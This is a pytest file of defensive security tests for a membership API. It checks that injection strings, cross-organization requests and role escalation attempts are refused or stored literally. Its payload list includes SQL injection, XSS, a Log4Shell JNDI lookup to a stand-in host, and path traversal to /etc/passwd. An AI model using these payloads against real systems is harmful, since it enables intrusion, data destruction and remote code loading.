"""Hostile callers of the membership API: injection in every string field, reaching into another
organization, and climbing roles. Every attempt is refused or stored as the literal it was, and the
store is otherwise untouched."""

from __future__ import annotations

import httpx
import pytest
from sqlalchemy import func, select

from membership.models import AuditEntry, Invite, Membership, User
from tests.fixtures.store import World
from tests.receiver.api.conftest import member

INJECTIONS = [
    "'; DROP TABLE users; --",
    '" OR "1"="1',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\u0000nul",
    "ünïcødé\u202etxt.exe",
    "a" * 5000,
]


async def counts(world: World) -> tuple[int, int, int]:
    async with world.database.transaction() as session:
        users = await session.scalar(select(func.count()).select_from(User))
        memberships = await session.scalar(select(func.count()).select_from(Membership))
        invites = await session.scalar(select(func.count()).select_from(Invite))
    return users or 0, memberships or 0, invites or 0


@pytest.mark.parametrize("payload", INJECTIONS)
async def test_injection_in_every_string_field_is_refused_or_kept_literally(
    api: httpx.AsyncClient, world: World, payload: str
) -> None:
    before = await counts(world)
    printable = payload.encode("ascii", "ignore").decode().replace("\u0000", "")[:200]
    owner = {**world.olive.headers, "x-request-id": printable}

    answers = [
        await api.post("/organizations/me/invites", json={"email": payload}, headers=owner),
        await api.post("/organizations/me/invites", json={"email": f"{payload}@example.com"}, headers=owner),
        await api.post(
            "/organizations/me/invites", json={"email": "x@example.com", "role": payload}, headers=owner
        ),
        await api.post("/organizations/invites/accept", json={"token": payload}, headers=world.mia.headers),
        await api.patch(member(world, "mia"), json={"role": payload}, headers=owner),
        await api.get("/organizations/me/members", params={"limit": payload}, headers=owner),
        await api.get("/organizations/me/members", headers={"authorization": f"Bearer {printable}"}),
    ]

    assert all(answer.status_code < 500 for answer in answers), [a.status_code for a in answers]
    created = [a.json() for a in answers if a.status_code == 201]
    assert all(invite["email"] in (payload.lower(), f"{payload}@example.com".lower()) for invite in created)
    assert await counts(world) == (before[0], before[1], before[2] + len(created))


async def test_a_request_id_is_recorded_as_the_literal_it_was(api: httpx.AsyncClient, world: World) -> None:
    payload = "'; DELETE FROM audit_log; --"
    headers = {**world.adam.headers, "x-request-id": payload}
    assert (await api.patch(member(world, "mia"), json={"role": "admin"}, headers=headers)).status_code == 200
    async with world.database.transaction() as session:
        causes = (await session.scalars(select(AuditEntry.cause))).all()
    assert any(payload in cause for cause in causes)


async def test_another_organizations_records_cannot_be_reached_or_changed(
    api: httpx.AsyncClient, world: World
) -> None:
    xavier = member(world, "xavier")  # a member of the other organization
    owner = world.olive.headers
    assert (await api.get(xavier, headers=owner)).status_code == 404
    assert (await api.patch(xavier, json={"role": "member"}, headers=owner)).status_code == 404
    assert (await api.delete(xavier, headers=owner)).status_code == 404
    grant = {"board_access": [{"board_id": world.other_board, "can_read": True}]}
    assert (await api.put(member(world, "mia") + "/access", json=grant, headers=owner)).status_code == 422


@pytest.mark.parametrize(
    ("who", "target", "change"),
    [
        ("mia", "mia", {"role": "owner"}),  # a member makes herself owner
        ("mia", "mia", {"role": "admin"}),
        ("adam", "adam", {"role": "owner"}),  # an admin makes himself owner
        ("adam", "olive", {"role": "member"}),  # an admin demotes the owner
    ],
)
async def test_nobody_climbs_roles_they_may_not_give(
    api: httpx.AsyncClient, world: World, who: str, target: str, change: dict[str, str]
) -> None:
    answer = await api.patch(member(world, target), json=change, headers=getattr(world, who).headers)
    assert answer.status_code == 403
    async with world.database.transaction() as session:
        role = await session.scalar(
            select(Membership.role).where(Membership.user_id == getattr(world, target).user.id)
        )
    assert role == {"mia": "member", "adam": "admin", "olive": "owner"}[target]


async def test_an_admin_cannot_remove_an_owner_nor_a_member_anyone(
    api: httpx.AsyncClient, world: World
) -> None:
    assert (await api.delete(member(world, "olive"), headers=world.adam.headers)).status_code == 403
    assert (await api.delete(member(world, "adam"), headers=world.mia.headers)).status_code == 403
    assert (await api.post("/organizations/me/invites", json={"email": "n@example.com", "role": "owner"},
                           headers=world.adam.headers)).status_code == 403  # fmt: skip
